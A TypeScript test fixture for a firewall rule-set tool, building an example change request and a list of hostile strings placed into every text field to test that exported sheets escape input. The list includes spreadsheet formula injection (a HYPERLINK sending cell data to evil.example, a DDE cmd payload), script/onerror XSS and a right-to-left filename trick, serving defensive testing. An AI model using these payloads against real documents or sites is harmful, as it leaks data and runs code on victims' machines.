import type { RuleFinding } from '../../../../shared/firewall/rule-finding.ts'
import { RuleSet } from '../../../../shared/firewall/rule-set.ts'
import type { SheetInput } from '../../../../shared/firewall/sheets/sheet-input.ts'
import { exampleRules } from '../example-rules.ts'

/** The example's rules with a request, what was seen, and an earlier list of one of its groups. */
export const requestedRules: RuleSet = RuleSet.parse({
  ...exampleRules,
  groups: exampleRules.groups.map((group) =>
    group.id === 'NYLAS_US'
      ? {
          ...group,
          before: {
            readAt: '2026-10-01T00:00:00.000Z',
            entries: ['34.67.39.103/32', '34.68.0.0/28', '35.1.2.3/32', '2600:1900:4000::/44'],
          },
        }
      : group,
  ),
  request: {
    ...{ requester: 'Ann Lee', department: 'Messaging', contact: 'ann@contoso.example', project: 'Mail sync' },
    ...{ changeNumber: 'CHG0012345', change: 'new', kind: 'normal', wanted: '2026-12-01', expiry: '2027-12-01' },
    ...{ owner: 'Exchange team', approver: 'Bo Diaz', implementer: 'Network team', firewall: 'fw-edge-1' },
    justification: 'The mail service reads mailboxes.',
  },
  evidence: [
    {
      ...{ host: 'MAIL', service: 'HTTPS', vantage: 'outside', seen: 'open', at: '2026-11-28T09:00:00.000Z' },
      words: 'an older look',
    },
    {
      ...{ host: 'MAIL', service: 'HTTPS', vantage: 'outside', seen: 'silent', at: '2026-11-29T10:05:00.000Z' },
      words: '198.51.100.25:443, no answer within 10 s',
    },
    {
      ...{ host: 'MAIL', service: 'HTTPS', vantage: 'inside', seen: 'open', at: '2026-11-29T10:00:00.000Z' },
      words: '10.20.0.25:443, TLS 1.2',
    },
  ],
})

const exampleFindings: readonly RuleFinding[] = [
  {
    ...{ code: 'no-owner', severity: 'warning', rule: '002', other: null, platform: null },
    ...{ title: 'Rule 002 has no owner', advice: 'Name who answers for it.' },
  },
]

/** What a sheet of the example is made of. */
export function inputOf(set: RuleSet = requestedRules, more: Partial<SheetInput> = {}): SheetInput {
  return { set, findings: exampleFindings, options: {}, delta: false, today: '2026-11-29', ...more }
}

/** Texts that do something to whoever takes them for more than text. */
export const hostileTexts = [
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '</table></style><!-- ',
  'a | b | c',
  '`code` **bold** [link](https://evil.example) ![x](https://evil.example/x.png)',
  'line one\r\nline two\n=1+1',
  'quote " and \' and "",=1+1',
  '\u202etxt.exe',
  '12E45',
  '01-02',
  '_x0041_',
  '&lt;b&gt; &amp;',
] as const

/** The example with one hostile text in every place that takes words. */
export function hostileRules(text: string): RuleSet {
  const flat = text.trim().slice(0, 200)
  return RuleSet.parse({
    ...requestedRules,
    title: flat,
    groups: requestedRules.groups.map((group) => ({ ...group, provider: flat, region: flat })),
    hosts: requestedRules.hosts.map((host) => ({ ...host, fromZone: flat.slice(0, 64).trim(), toZone: 'dmz' })),
    services: requestedRules.services.map((service) => ({ ...service, paths: [flat] })),
    rules: requestedRules.rules.map((rule) => ({
      ...rule,
      ...{ owner: flat, requester: flat, approver: flat, changeNumber: flat, justification: flat, notes: flat },
    })),
    request: {
      ...requestedRules.request,
      ...{ requester: flat, department: flat, contact: flat, project: flat, changeNumber: flat, owner: flat },
      ...{ approver: flat, implementer: flat, firewall: flat, justification: flat },
    },
    evidence: requestedRules.evidence.map((seen) => ({ ...seen, words: flat })),
  })
}
